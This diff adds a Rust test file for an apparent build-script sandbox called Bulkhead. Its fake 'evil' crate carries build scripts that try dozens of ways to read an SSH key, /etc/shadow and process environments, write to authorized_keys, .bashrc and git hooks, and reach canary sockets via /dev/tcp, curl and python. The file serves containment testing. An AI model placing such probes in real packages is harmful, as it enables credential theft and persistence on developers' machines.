@@ -1,0 +1,332 @@
+//! The same theft, the same intrusion, the same call home by every way that we know of (variants of the cases 98 to 104 and
+//! 113): what matters is not that the plain way is closed but that none is open.
+
+use std::collections::BTreeSet;
+
+use bulkhead_test_support::CrateBuilder;
+
+use super::arena::Arena;
+
+/// What all of them need: `way(NAME, PROBE)` notes the name in `$OUT_DIR/report` if the probe gives `true`.
+const PRELUDE: &str = r#"
+#![allow(unused)]
+use std::ffi::CString;
+use std::io::{Read as _, Write as _};
+use std::os::fd::AsRawFd as _;
+use std::os::unix::fs::{MetadataExt as _, OpenOptionsExt as _, PermissionsExt as _, symlink};
+use std::path::Path;
+use std::process::{Command, Stdio};
+unsafe extern "C" {
+    fn syscall(number: i64, ...) -> i64;
+    fn mkfifo(path: *const std::ffi::c_char, mode: u32) -> i32;
+    fn utimes(path: *const std::ffi::c_char, times: *const i64) -> i32;
+    fn setxattr(path: *const std::ffi::c_char, name: *const std::ffi::c_char, value: *const u8, size: usize, flags: i32) -> i32;
+    fn getppid() -> i32;
+    fn kill(pid: i32, signal: i32) -> i32;
+}
+fn c(text: &str) -> CString { CString::new(text).unwrap() }
+fn out(name: &str) -> String { format!("{}/{name}", std::env::var("OUT_DIR").unwrap()) }
+fn way(name: &str, probe: impl FnOnce() -> bool + std::panic::UnwindSafe) {
+    let works = std::panic::catch_unwind(probe).unwrap_or(false);
+    if works {
+        let mut report = std::fs::File::options().create(true).append(true).open(out("report")).unwrap();
+        writeln!(report, "{name}").unwrap();
+    }
+}
+fn loot(text: Option<String>) -> bool { text.is_some_and(|text| text.contains("s3cr3t")) }
+fn read(path: &str) -> Option<String> {
+    let mut bytes = Vec::new();
+    std::fs::File::open(path).ok()?.take(1 << 20).read_to_end(&mut bytes).ok()?;
+    Some(String::from_utf8_lossy(&bytes).into_owned())
+}
+fn run(program: &str, arguments: &[&str]) -> Option<String> {
+    let output = Command::new(program).args(arguments).stdin(Stdio::null()).output().ok()?;
+    Some(String::from_utf8_lossy(&[output.stdout, output.stderr].concat()).into_owned())
+}
+"#;
+
+/// Every way to the content of a file, and to secrets that lie in no file.
+const READING: &str = r##"
+fn main() {
+    let secret = "{SECRET}";
+    way("open", || loot(read(secret)));
+    way("own root", || loot(read(&format!("/proc/self/root{secret}"))));
+    way("root of the first process", || loot(read(&format!("/proc/1/root{secret}"))));
+    way("root of the parent", || loot(read(&format!("/proc/{}/root{secret}", unsafe { getppid() }))));
+    way("upwards", || loot(read(&format!("{}{secret}", "../".repeat(30)))));
+    way("doubled slashes", || loot(read(&secret.replace('/', "//./"))));
+    way("a link", || { symlink(secret, out("l")).unwrap(); let got = loot(read(&out("l"))); std::fs::remove_file(out("l")); got });
+    way("a link to a folder", || {
+        let path = Path::new(secret);
+        symlink(path.parent().unwrap(), out("d")).unwrap();
+        let got = loot(read(&format!("{}/{}", out("d"), path.file_name().unwrap().to_str().unwrap())));
+        std::fs::remove_file(out("d"));
+        got
+    });
+    way("a hard link", || { std::fs::hard_link(secret, out("h")).unwrap(); let got = loot(read(&out("h"))); std::fs::remove_file(out("h")); got });
+    way("a copy", || { std::fs::copy(secret, out("c")).unwrap(); let got = loot(read(&out("c"))); std::fs::remove_file(out("c")); got });
+    way("moved here", || { std::fs::rename(secret, out("m")).unwrap(); let got = loot(read(&out("m"))); std::fs::rename(out("m"), secret); got });
+    way("cat", || loot(run("/bin/cat", &[secret])));
+    way("a shell", || loot(run("/bin/sh", &["-c", &format!("cat < {secret}")])));
+    way("the preprocessor", || loot(run("cc", &["-E", "-x", "c", secret])));
+    way("an assembler", || {
+        std::fs::write(out("a.s"), format!(".incbin \"{secret}\"\n")).unwrap();
+        run("cc", &["-c", &out("a.s"), "-o", &out("a.o")]);
+        loot(read(&out("a.o")))
+    });
+    way("an archiver", || { run("ar", &["r", &out("a.a"), secret]); loot(read(&out("a.a"))) });
+    way("tar", || loot(run("tar", &["cf", "-", secret])));
+    way("a program started long after", || {
+        run("/bin/sh", &["-c", &format!("setsid /bin/sh -c 'sleep 0.2; cat {secret} > {}' & sleep 0.6", out("late"))]);
+        loot(read(&out("late")))
+    });
+    way("names in the folder", || std::fs::read_dir(Path::new(secret).parent().unwrap()).unwrap().count() > 0);
+    way("environment", || std::env::vars().any(|(_, value)| value.contains("s3cr3t")));
+    way("environment of processes", || std::fs::read_dir("/proc").unwrap().flatten()
+        .any(|entry| loot(read(&format!("{}/environ", entry.path().display())))));
+    way("descriptors of processes", || std::fs::read_dir("/proc").unwrap().flatten().any(|entry| {
+        std::fs::read_dir(entry.path().join("fd")).into_iter().flatten().flatten()
+            .any(|fd| std::fs::metadata(fd.path()).is_ok_and(|it| it.is_file()) && loot(read(&fd.path().display().to_string())))
+    }));
+    for fd in 3..1024 {
+        if let Ok(target) = std::fs::read_link(format!("/proc/self/fd/{fd}")) {
+            // The pipe of the jobserver is what `cc` and `make` take turns by.
+            way(&format!("descriptor of {}", target.display()), || !target.to_string_lossy().starts_with("pipe:"));
+        }
+    }
+    way("the project", || loot(read("{PROJECT}/.env")));
+    way("passwords", || read("/etc/shadow").is_some());
+    way("a bind mount", || {
+        std::fs::create_dir_all(out("mnt"));
+        loot(run("unshare", &["-rm", "/bin/sh", "-c", &format!("mount --bind {} {} && cat {}/*", Path::new(secret).parent().unwrap().display(), out("mnt"), out("mnt"))]))
+    });
+    way("other sources", || Path::new("{PROJECT}/src/main.rs").exists());
+}
+"##;
+
+/// Every way to leave something outside.
+const WRITING: &str = r##"
+fn main() {
+    let place = "{OUTSIDE}/neighbour/src";
+    let victim = format!("{place}/lib.rs");
+    let new = |name: &str| format!("{place}/{name}");
+    way("a new file", || std::fs::write(new("new"), "x").is_ok());
+    way("an old file", || std::fs::write(&victim, "x").is_ok());
+    way("appended", || std::fs::File::options().append(true).open(&victim).unwrap().write_all(b"x").is_ok());
+    way("shortened", || std::fs::File::options().write(true).open(&victim).unwrap().set_len(1).is_ok());
+    way("own root", || std::fs::write(format!("/proc/self/root{}", new("root")), "x").is_ok());
+    way("a link", || { symlink(place, out("w")).unwrap(); let done = std::fs::write(out("w/link"), "x").is_ok(); std::fs::remove_file(out("w")); done });
+    way("a folder", || std::fs::create_dir(new("dir")).is_ok());
+    way("moved", || { std::fs::write(out("x"), "x").unwrap(); std::fs::rename(out("x"), new("moved")).is_ok() });
+    way("linked", || { std::fs::write(out("y"), "x").unwrap(); std::fs::hard_link(out("y"), new("linked")).is_ok() });
+    way("a symbolic link", || symlink("/x", new("symlink")).is_ok());
+    way("a pipe", || unsafe { mkfifo(c(&new("fifo")).as_ptr(), 0o600) } == 0);
+    way("a socket", || std::os::unix::net::UnixListener::bind(new("socket")).is_ok());
+    way("mode", || std::fs::set_permissions(&victim, std::fs::Permissions::from_mode(0o777)).is_ok());
+    way("mode of a folder", || std::fs::set_permissions(place, std::fs::Permissions::from_mode(0o777)).is_ok());
+    way("times", || unsafe { utimes(c(&victim).as_ptr(), std::ptr::null()) } == 0);
+    way("attributes", || unsafe { setxattr(c(&victim).as_ptr(), c("user.x").as_ptr(), b"x".as_ptr(), 1, 0) } == 0);
+    way("an unnamed file", || {
+        let file = std::fs::File::options().write(true).custom_flags(0o20200000).open(place).unwrap();
+        std::fs::hard_link(format!("/proc/self/fd/{}", file.as_raw_fd()), new("tmpfile"));
+        true
+    });
+    way("removed", || std::fs::remove_file(&victim).is_ok());
+    way("the project", || std::fs::write("{PROJECT}/src/evil.rs", "x").is_ok());
+    way("hooks", || { std::fs::create_dir_all("{PROJECT}/.git/hooks").is_ok() && std::fs::write("{PROJECT}/.git/hooks/pre-commit", "x").is_ok() });
+    way("configuration", || { std::fs::create_dir_all("{PROJECT}/.cargo").is_ok() && std::fs::write("{PROJECT}/.cargo/config.toml", "").is_ok() });
+    way("a workflow", || std::fs::create_dir_all("{PROJECT}/.github/workflows").is_ok());
+    way("the lockfile", || std::fs::File::options().append(true).open("{PROJECT}/Cargo.lock").is_ok());
+    way("the profile of the shell", || std::fs::File::options().append(true).open("{OUTSIDE}/home/.bashrc").is_ok());
+    way("keys", || std::fs::write("{OUTSIDE}/home/.ssh/authorized_keys", "x").is_ok());
+    way("the package itself", || std::fs::write("src/evil.rs", "x").is_ok());
+    way("the package's folder", || std::fs::set_permissions(".", std::fs::Permissions::from_mode(0o777)).is_ok());
+    way("beside the package", || std::fs::write("../evil", "x").is_ok());
+    way("beside the output", || std::fs::write(out("../evil"), "x").is_ok());
+    way("the target folder", || std::fs::write("{PROJECT}/target/debug/evil", "x").is_ok());
+    way("other units", || std::fs::write("{PROJECT}/target/debug/deps/evil", "x").is_ok());
+    way("records", || std::fs::create_dir_all("{PROJECT}/target/debug/.fingerprint/evil").is_ok());
+    way("the cache of the toolchain", || std::fs::write(format!("{}/bin/evil", std::env::var("CARGO_HOME").unwrap_or("{HOME}/.cargo".into())), "x").is_ok());
+    way("temporary files for all", || std::fs::write("/var/tmp/bulkhead-attack-evil", "x").is_ok());
+    way("shared memory", || { std::fs::write("/dev/shm/bulkhead-attack-evil", "x").is_ok() });
+    way("settings of the kernel", || std::fs::File::options().write(true).open("/proc/sys/kernel/hostname").is_ok());
+    way("control groups", || std::fs::create_dir("/sys/fs/cgroup/bulkhead-attack-evil").is_ok());
+    way("the system", || std::fs::write("/etc/bulkhead-attack-evil", "x").is_ok());
+    way("signals", || unsafe { kill({PID}, 0) } == 0);
+}
+"##;
+
+/// Every way to be heard.
+const CALLING: &str = r##"
+fn main() {
+    use std::net::*;
+    use std::os::linux::net::SocketAddrExt as _;
+    use std::os::unix::net::{UnixDatagram, UnixStream};
+    let limit = std::time::Duration::from_millis(300);
+    let (tcp, udp) = ({TCP}u16, {UDP}u16);
+    for address in ["127.0.0.1", "127.0.0.2", "0.0.0.0", "[::1]", "[::ffff:127.0.0.1]"] {
+        way(&format!("tcp {address}"), || TcpStream::connect_timeout(&format!("{address}:{tcp}").parse().unwrap(), limit).is_ok());
+    }
+    way("localhost", || TcpStream::connect(("localhost", tcp)).is_ok());
+    way("udp", || UdpSocket::bind("127.0.0.1:0").unwrap().send_to(b"x", ("127.0.0.1", udp)).is_ok());
+    way("broadcast", || { let it = UdpSocket::bind("0.0.0.0:0").unwrap(); it.set_broadcast(true); it.send_to(b"x", ("255.255.255.255", udp)).is_ok() });
+    way("multicast", || UdpSocket::bind("0.0.0.0:0").unwrap().send_to(b"x", ("224.0.0.1", udp)).is_ok());
+    way("a name", || ("example.invalid", 80).to_socket_addrs().is_ok());
+    way("a server of names", || { let it = UdpSocket::bind("0.0.0.0:0").unwrap(); it.send_to(b"x", ("192.0.2.1", 53)).is_ok() });
+    way("unix", || UnixStream::connect("{SOCKET}").is_ok());
+    way("unix by a link", || { symlink("{OUTSIDE}", out("s")).unwrap(); let it = UnixStream::connect(out("s/socket")).is_ok(); std::fs::remove_file(out("s")); it });
+    way("unix by root", || UnixStream::connect("/proc/self/root{SOCKET}").is_ok());
+    way("unix datagram", || UnixDatagram::unbound().unwrap().connect("{SOCKET}").is_ok());
+    way("abstract", || UnixStream::connect_addr(&std::os::unix::net::SocketAddr::from_abstract_name("{ABSTRACT}").unwrap()).is_ok());
+    way("a shell", || run("bash", &["-c", &format!("echo x > /dev/tcp/127.0.0.1/{tcp} && echo sent")]).is_some_and(|it| it.contains("sent")));
+    way("curl", || Command::new("curl").args(["-m", "1", "-so", "/dev/null", "--noproxy", "*", &format!("telnet://127.0.0.1:{tcp}")]).stdin(Stdio::null()).status().is_ok_and(|it| it.code() != Some(7) && it.code() != Some(6)));
+    way("python", || run("python3", &["-c", &format!("import socket; socket.create_connection(('127.0.0.1', {tcp})); print('sent')")]).is_some_and(|it| it.ends_with("sent\n")));
+    way("the control daemon", || ["/var/run/docker.sock", "/run/dbus/system_bus_socket", "/run/systemd/private"].iter().any(|path| UnixStream::connect(path).is_ok()));
+}
+"##;
+
+fn filled(arena: &Arena, ways: &str) -> String {
+    let outside = arena.outside().display().to_string();
+    let text = format!("{PRELUDE}{ways}")
+        .replace("{SECRET}", &arena.home().join(".ssh/id_ed25519").display().to_string())
+        .replace("{OUTSIDE}", &outside)
+        .replace("{HOME}", &arena.home().display().to_string())
+        .replace("{PROJECT}", &arena.stage.project.root().display().to_string())
+        .replace("{SOCKET}", &arena.canaries.socket().display().to_string());
+    text.replace("{ABSTRACT}", arena.canaries.abstract_name())
+        .replace("{TCP}", &arena.canaries.tcp_port().to_string())
+        .replace("{UDP}", &arena.canaries.udp_port().to_string())
+        .replace("{PID}", &std::process::id().to_string())
+}
+
+/// The ways that were open to the last build.
+fn open_ways(arena: &Arena) -> BTreeSet<String> {
+    let target = arena.stage.project.path("target");
+    let reports = super::storage::files(&target, "report", "");
+    reports.iter().flat_map(|path| std::fs::read_to_string(path).unwrap().lines().map(str::to_owned).collect::<Vec<_>>()).collect()
+}
+
+/// A script that tries everything, as the build script of a package from the registry. Under Bulkhead, `harmless` may stay.
+#[track_caller]
+fn check(ways: &str, bites: &[&str], harmless: &[&str]) {
+    let arena = Arena::new("evil = \"1\"", "fn main() { evil::new() }");
+    let script = filled(&arena, ways);
+    arena.stage.registry.publish(
+        CrateBuilder::new("evil", "1.0.0").file("src/lib.rs", "pub fn new() {}\n").build_script(&script),
+    );
+    let outcome = arena.bulkhead(&["build"]);
+    let open = open_ways(&arena);
+    arena.assert_unharmed(&outcome);
+    outcome.assert_success();
+    for planted in [".git", ".github", ".cargo", "src/evil.rs", "target/debug/evil", "target/debug/.fingerprint/evil"] {
+        assert!(!arena.stage.project.path(planted).exists(), "{planted} was left: {outcome}");
+    }
+    for root in [arena.stage.project.outside(), &arena.stage.home.bulkhead_home()] {
+        let left = super::storage::files(root, "evil", "");
+        assert!(!left.iter().any(|path| path.ends_with("evil") && path.is_file()), "{left:?}");
+    }
+    let open: Vec<_> = open.iter().filter(|way| !harmless.contains(&way.as_str())).collect();
+    assert!(open.is_empty(), "open: {open:?}\n{outcome}");
+    arena.clear();
+    // Last, since it leaves nothing as it was.
+    let theirs = arena.cargo(&["build"]);
+    let open = open_ways(&arena);
+    for way in bites {
+        assert!(open.contains(*way), "{way} does not bite under cargo: {open:?} {theirs}");
+    }
+}
+
+/// Attacks 98 and 101.
+#[test]
+fn case_098_no_way_leads_to_a_secret() {
+    check(
+        READING,
+        &[
+            "open",
+            "own root",
+            "a link",
+            "a link to a folder",
+            "a copy",
+            "cat",
+            "a shell",
+            "the preprocessor",
+            "an assembler",
+            "an archiver",
+            "a program started long after",
+            "names in the folder",
+            "environment",
+            "environment of processes",
+            "the project",
+            "other sources",
+        ],
+        &[],
+    );
+}
+
+/// Attacks 103 and 104.
+#[test]
+fn case_103_no_way_leaves_anything_outside() {
+    check(
+        WRITING,
+        &[
+            "a new file", "an old file", "appended", "shortened", "own root", "a link", "a folder", "moved", "linked",
+            "a symbolic link", "a pipe", "a socket", "mode", "times", "removed", "the project", "hooks", "configuration",
+            "a workflow", "the lockfile", "keys", "the package itself", "the target folder", "other units",
+        ],
+        // The project lies in `/tmp`, of which every process has its own: what it makes there is gone with it.
+        &[
+            "a workflow", "beside the output", "beside the package", "configuration", "hooks", "records",
+            "the target folder",
+        ],
+    );
+    let _ = std::fs::remove_file("/var/tmp/bulkhead-attack-evil");
+    let _ = std::fs::remove_file("/etc/bulkhead-attack-evil");
+    let _ = std::fs::remove_file("/dev/shm/bulkhead-attack-evil");
+    let _ = std::fs::remove_dir("/sys/fs/cgroup/bulkhead-attack-evil");
+}
+
+/// Attack 99.
+#[test]
+fn case_099_no_way_is_heard_outside() {
+    check(CALLING, &["tcp 127.0.0.1", "localhost", "udp", "unix", "unix by a link", "abstract", "a shell"], &[]);
+}
+
+/// The jobserver's pipe is shared by all: whoever spoils it makes nobody wait for ever.
+#[test]
+fn case_112_a_spoilt_jobserver_stops_nobody() {
+    const SPOIL: &str = r#"
+fn main() {
+    unsafe extern "C" { fn fcntl(fd: i32, command: i32, argument: i32) -> i32; }
+    let flags = std::env::var("CARGO_MAKEFLAGS").unwrap();
+    let auth = flags.split_whitespace().find_map(|word| word.strip_prefix("--jobserver-auth=")).unwrap();
+    let (read, write) = auth.split_once(',').unwrap();
+    use std::os::fd::FromRawFd as _;
+    let read_fd: i32 = read.parse().unwrap();
+    let write_fd: i32 = write.parse().unwrap();
+    if "{HOW}" != "flags" { unsafe { fcntl(read_fd, 4, 2048); fcntl(write_fd, 4, 2049); } }
+    let mut read = unsafe { std::fs::File::from_raw_fd(read_fd) };
+    let mut write = unsafe { std::fs::File::from_raw_fd(write_fd) };
+    match "{HOW}" {
+        "drain" => while read.read(&mut [0; 1]).is_ok_and(|length| length > 0) {},
+        "fill" => while write.write(&[b'+'; 512]).is_ok() {},
+        _ => unsafe { fcntl(read_fd, 4, 2048); fcntl(write_fd, 4, 2049); },
+    }
+    if "{HOW}" != "flags" { unsafe { fcntl(read_fd, 4, 0); fcntl(write_fd, 4, 1); } }
+}
+"#;
+    for how in ["drain", "fill", "flags"] {
+        let names: Vec<String> = (0..6).map(|index| format!("crowd{index}")).collect();
+        let lines: Vec<String> = names.iter().map(|name| format!("{name} = \"1\"\n")).collect();
+        let arena = Arena::new(&format!("evil = \"1\"\n{}", lines.concat()), "fn main() { evil::new() }");
+        let script = format!("{PRELUDE}{}", SPOIL.replace("{HOW}", how));
+        let package = |name: &str| CrateBuilder::new(name, "1.0.0").file("src/lib.rs", "pub fn new() {}\n");
+        arena.stage.registry.publish(package("evil").build_script(&script));
+        for name in &names {
+            arena.stage.registry.publish(package(name).build_script(&script));
+        }
+        let limit = std::time::Duration::from_secs(60);
+        let outcome = arena.command(crate::stage::BULKHEAD, &["build", "-j", "4"]).timeout(limit).run();
+        arena.assert_unharmed(&outcome);
+        outcome.assert_success();
+    }
+}
